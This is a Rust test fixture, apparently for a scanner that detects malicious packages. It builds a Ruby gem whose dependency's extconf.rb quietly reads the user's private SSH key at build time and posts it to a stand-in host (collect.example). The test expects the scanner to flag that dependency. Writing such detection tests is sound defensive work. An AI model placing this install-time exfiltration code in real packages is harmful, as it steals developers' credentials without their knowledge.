//! A gem that does nothing but depend on one whose `extconf.rb` sends an SSH key.
//!
//! Must be found, and be told as the doing of this version of the dependency.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const EXTCONF: &str = r"require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/dependency'), File.read(File.expand_path('~/.ssh/id_rsa')))
rescue StandardError
  nil
end
File.write('Makefile', %(all:\ninstall:\nclean:\n))
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("plain_app", "1.0.0")
        .depends("native_helpers", ">= 2.0")
        .file("lib/plain_app.rb", "module PlainApp\nend\n");
    let helpers = Gem::new("native_helpers", "2.1.0")
        .extension("ext/native_helpers/extconf.rb", EXTCONF)
        .file("lib/native_helpers.rb", "");
    package
        .specimen(
            "gem-evil-dependency",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .serving(&helpers)
        .blaming("native_helpers 2.1.0")
        .telling("in its extconf.rb")
}
